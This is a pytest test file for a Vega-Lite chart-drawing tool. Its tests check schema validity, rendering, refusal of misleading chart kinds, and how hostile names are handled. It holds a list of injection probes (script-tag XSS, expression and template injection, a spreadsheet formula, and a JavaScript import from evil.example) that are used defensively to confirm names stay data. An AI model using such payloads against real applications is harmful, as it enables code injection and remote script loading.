"""Charts of a kind: valid Vega-Lite, drawn by Vega itself, refused where they would lie, and deaf to what names say."""

import html
from collections.abc import Iterator
from datetime import date
from typing import Any

import jsonschema
import pytest
import vl_convert
from hypothesis import given
from hypothesis import strategies as st

from storage.metrics.query import MetricQuery, OrderBy, TimeRange
from tests.query.charts import MODEL, THINGS, figures, query
from tools.query.chart_drawing import MOST_SLICES, drawn
from tools.query.chart_kinds import KINDS, unsuited
from tools.query.drawn import ChartKind

HOSTILE = (
    "</script><script>alert(1)</script>",
    "datum['x'] + toString(1)",
    '{"signal": "width"}',
    "{{7*7}} ${7*7} #{7*7}",
    '"); import("http://evil.example/x.js"); ("',
    "a.b[c]\\d'e\"f",
    "=1+1",
    "مرحبا 商品 🫖",
)
BEFORE = TimeRange(start=date(2025, 1, 1), end=date(2025, 7, 1))
SUITED: list[tuple[ChartKind, MetricQuery]] = [
    ("line", query(grain="month")),
    ("line", query(grain="month", dimensions=("category",))),
    ("line", query(grain="month", metrics=("revenue", "gross_sales"))),
    ("line", query(grain="month", compare=BEFORE)),
    ("line", query(grain="week")),
    ("bar", query(grain="month")),
    ("bar", query(grain="month", dimensions=("category",))),
    ("bar", query(grain="month", metrics=("revenue", "refunds"))),
    ("bar", query(dimensions=("category",))),
    ("bar", query(dimensions=("category",), metrics=("revenue", "gross_sales"))),
    ("bar", query(dimensions=("category",), compare=BEFORE)),
    ("bar", query(dimensions=("category", "channel"))),
    ("bar", query(grain="month", order=(OrderBy(by="revenue"),), limit=3)),
    ("stacked", query(grain="month", dimensions=("category",))),
    ("stacked", query(dimensions=("category", "channel"))),
    ("pie", query(dimensions=("category",))),
    ("pie", query(grain="month")),
    ("scatter", query(dimensions=("product",), metrics=("revenue", "units"))),
    ("scatter", query(grain="month", metrics=("revenue", "units"))),
    ("heatmap", query(grain="month", dimensions=("category",))),
    ("heatmap", query(dimensions=("category", "channel"))),
]


def said(kind: ChartKind, asked: MetricQuery) -> str:
    return (
        f"{kind}-{'-'.join((*asked.metrics, *asked.dimensions, asked.grain or ''))}{'-compared' * bool(asked.compare)}"
    )


@pytest.mark.parametrize(("kind", "asked"), [pytest.param(*one, id=said(*one)) for one in SUITED])
def test_a_chart_keeps_to_the_official_schema_and_is_drawn(
    kind: ChartKind, asked: MetricQuery, validator: jsonschema.Draft7Validator
) -> None:
    assert unsuited(kind, asked, MODEL) is None
    chart = drawn(kind, figures(asked), asked, MODEL, "Sales of the shop")
    assert chart.spec is not None
    assert list(validator.iter_errors(chart.spec)) == []
    svg = vl_convert.vegalite_to_svg(chart.spec | {"width": 400}, vl_version="5.20", allowed_base_urls=[])
    assert "Sales of the shop" in svg
    assert "<path" in svg
    if asked.dimensions and kind != "scatter":
        assert all(thing in svg for thing in THINGS)


def test_every_kind_that_is_drawn_is_tried() -> None:
    assert {kind for kind, _ in SUITED} | {"figure", "table", "cohort", "funnel", "map"} == set(KINDS)


@pytest.mark.parametrize(
    ("kind", "asked", "reason"),
    [
        ("figure", query(grain="month"), "split by month"),
        ("figure", query(dimensions=("category",)), "split by category"),
        ("line", query(dimensions=("category",)), "A line goes over time"),
        ("line", query(grain="month", limit=3, order=(OrderBy(by="revenue"),)), "first 3 of a ranking"),
        ("line", query(grain="month", metrics=("revenue", "units")), "different units"),
        ("line", query(grain="month", dimensions=("category", "channel")), "up to two things"),
        ("line", query(), "a single figure"),
        ("bar", query(dimensions=("category",), metrics=("revenue", "orders")), "different units"),
        ("bar", query(grain="month", dimensions=("category",), metrics=("revenue", "refunds")), "one figure of one"),
        ("stacked", query(dimensions=("category",)), "by two things"),
        ("stacked", query(grain="month", dimensions=("category",), metrics=("customers",)), "cannot be added up"),
        ("pie", query(dimensions=("category",), metrics=("average_order_value",)), "cannot be added up"),
        ("pie", query(dimensions=("category", "channel")), "by one thing"),
        ("pie", query(dimensions=("category",), compare=BEFORE), "one figure of one period"),
        ("scatter", query(dimensions=("product",)), "exactly two figures"),
        ("heatmap", query(grain="month"), "by two things"),
    ],
)
def test_a_kind_that_would_mislead_is_refused_with_the_reason(kind: ChartKind, asked: MetricQuery, reason: str) -> None:
    refusal = unsuited(kind, asked, MODEL)
    assert refusal is not None
    assert reason in refusal
    chart = drawn(kind, figures(asked), asked, MODEL, "Title")
    assert chart.spec is None
    assert reason in chart.note or kind == "figure"


def test_a_pie_gathers_its_small_slices_and_says_so() -> None:
    asked = query(dimensions=("category",))
    many = [f"Category {i}" for i in range(MOST_SLICES + 4)]
    chart = drawn("pie", figures(asked, many, [100.0 - i for i in range(len(many))]), asked, MODEL, "Parts")
    assert chart.spec is not None
    values = chart.spec["data"]["values"]
    assert len(values) == MOST_SLICES
    assert values[-1]["category"] == "5 others"
    assert sum(row["revenue"] for row in values) == pytest.approx(sum(100.0 - i for i in range(len(many))))
    assert "5 others" in chart.note


def test_what_is_below_nothing_is_no_part_of_a_whole() -> None:
    asked = query(dimensions=("category",))
    chart = drawn("pie", figures(asked, THINGS, [5.0, -2.0, 3.0]), asked, MODEL, "Parts")
    assert chart.spec is None
    assert "below nothing" in chart.note


def test_many_lines_become_the_largest_few_and_it_is_said() -> None:
    asked = query(grain="month", dimensions=("product",))
    chart = drawn("line", figures(asked, [f"Product {i}" for i in range(20)]), asked, MODEL, "Lines")
    assert chart.spec is not None
    assert len({row["product"] for row in chart.spec["data"]["values"]}) == 8
    assert "8 largest of 20 products" in chart.note


def parts(node: Any) -> Iterator[tuple[str, Any]]:
    """Every key of a specification with its value, but for the data themselves."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key != "values":
                yield key, value
                yield from parts(value)
    elif isinstance(node, list):
        for value in node:
            yield from parts(value)


def asserts_that_names_are_data(spec: dict[str, Any], hostile: str) -> None:
    keys = {key for key, _ in parts(spec)}
    assert not keys & {"expr", "signal", "transform", "url", "href", "filter", "calculate"}
    places = [key for key, value in parts(spec) if value == hostile]
    assert places in ([], ["title"])


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_names_are_data_and_nothing_is_made_of_them(
    hostile: str, validator: jsonschema.Draft7Validator
) -> None:
    for kind, asked in SUITED:
        chart = drawn(kind, figures(asked, [hostile, "Tea", hostile * 2]), asked, MODEL, hostile)
        assert chart.spec is not None
        asserts_that_names_are_data(chart.spec, hostile)
        assert list(validator.iter_errors(chart.spec)) == []


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_names_are_drawn_as_text(hostile: str) -> None:
    asked = query(dimensions=("category",))
    chart = drawn("bar", figures(asked, [hostile, "Tea", "Mugs"]), asked, MODEL, hostile)
    svg = vl_convert.vegalite_to_svg((chart.spec or {}) | {"width": 400}, vl_version="5.20", allowed_base_urls=[])
    assert "<script" not in svg
    assert hostile in html.unescape(svg)


@given(title=st.text(max_size=60), name=st.text(max_size=60))
def test_no_text_gets_out_of_its_place(title: str, name: str) -> None:
    for kind, asked in SUITED[::4]:
        chart = drawn(kind, figures(asked, [name, f"{name}2"]), asked, MODEL, title)
        assert chart.spec is not None
        assert chart.spec["title"] == title
        assert not {key for key, _ in parts(chart.spec)} & {"expr", "signal", "transform", "url", "href"}
